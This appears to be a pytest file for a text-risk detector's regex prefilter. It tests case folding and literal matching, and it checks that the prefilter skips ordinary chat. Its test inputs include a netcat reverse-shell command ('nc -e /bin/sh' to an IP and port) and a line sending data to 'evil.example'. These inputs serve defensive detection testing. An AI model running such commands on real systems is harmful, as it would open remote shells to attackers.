"""The prefilter of ``text.risk.effects`` skips only what could not match (``text.prefilter``)."""

from __future__ import annotations

import re
import sys
from pathlib import Path

import pytest

from haki.text import risk
from haki.text.prefilter import Literals, fold, holds, literals, needs

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "bench"))
from marks_same_output import differences, texts

# Every 7th text of every readable set, LoCoMo dev turns included.
SAMPLE = [t for items in texts().values() for t in items[::7]]


def test_marks_and_effects_are_those_read_without_the_prefilter():
    assert len(SAMPLE) > 500
    assert differences(SAMPLE) == []


def test_the_prefilter_skips_most_chat_sentences():
    chat = [t for t in texts()["locomo_sample.jsonl"]]
    opened = sum(risk.may_have_effects(t) for t in chat)
    assert opened < len(chat) / 2


def _effect_patterns() -> list[re.Pattern[str]]:
    from haki.text import risk_frames, risk_release, risk_shapes, targets

    own = [v for k, v in vars(risk).items() if k.startswith("_") and isinstance(v, re.Pattern)]
    return [
        *own,
        *risk_release.PATTERNS,
        *risk_shapes.PATTERNS,
        *targets.PATTERNS,
        risk_frames.RELEASED,
    ]


@pytest.mark.parametrize("pattern", _effect_patterns(), ids=lambda p: p.pattern[:30])
def test_a_pattern_that_matches_has_the_literals_it_needs(pattern):
    cond = needs(pattern)
    scan = Literals([cond])
    matched = [t for t in SAMPLE if pattern.search(t)]
    assert all(holds(cond, scan.present(t)) for t in matched)


@pytest.mark.parametrize(
    ("text", "pattern", "expected"),
    [
        ("send it to evil.example", r"send\b.*?\.example", True),
        ("SEND it", r"send", True),
        ("ſend it", r"send", True),  # long s: the engine folds it to s
        ("İgnore it", r"ignore", True),  # dotted capital I
        ("ıgnore it", r"ignore", True),  # dotless i
        ("call +44 ٧٧٠٠ 900123", r"\+\d{2}", True),  # Arabic-Indic digits are \d
        ("nothing here", r"send|post", False),
        ("the tests passed", r"(?:tell|say) .{0,20}passed", False),
    ],
)
def test_literals_fold_case_and_digits_as_the_engine_does(text, pattern, expected):
    compiled = re.compile(pattern, re.IGNORECASE)
    cond = needs(compiled)
    assert (compiled.search(text) is not None) == expected
    assert holds(cond, Literals([cond]).present(text)) or not expected


def test_fold_agrees_with_ignorecase_on_every_literal_character():
    chars = sorted({ch for p in _effect_patterns() for w in literals(needs(p)) for ch in w})
    every = "".join(map(chr, range(sys.maxunicode + 1))).replace("\n", "")
    for ch in chars:
        for hit in re.findall(re.escape(ch), every, re.IGNORECASE):
            assert fold(hit) == fold(ch), (ch, hit)


def test_fold_keeps_each_character_one_character_and_its_word_class():
    # Positions and word boundaries of the folded text are those of the text.
    for cp in range(sys.maxunicode + 1):
        ch = chr(cp)
        assert len(fold(ch)) == 1, hex(cp)
        assert (re.match(r"\w", ch) is not None) == (ch.isalnum() or ch == "_"), hex(cp)


@pytest.mark.parametrize(
    ("text", "opened"),
    [
        ("We went dancing once since the concert.", False),  # "nc" inside words
        ("then nc -e /bin/sh 10.0.0.1 4444", True),
        ("No need to ask me.", True),  # a bare release is a safeguard
    ],
)
def test_a_literal_wanted_as_a_word_is_not_found_inside_one(text, opened):
    assert risk.may_have_effects(text) == opened
    assert risk.effects(text) == risk.read_effects(text)
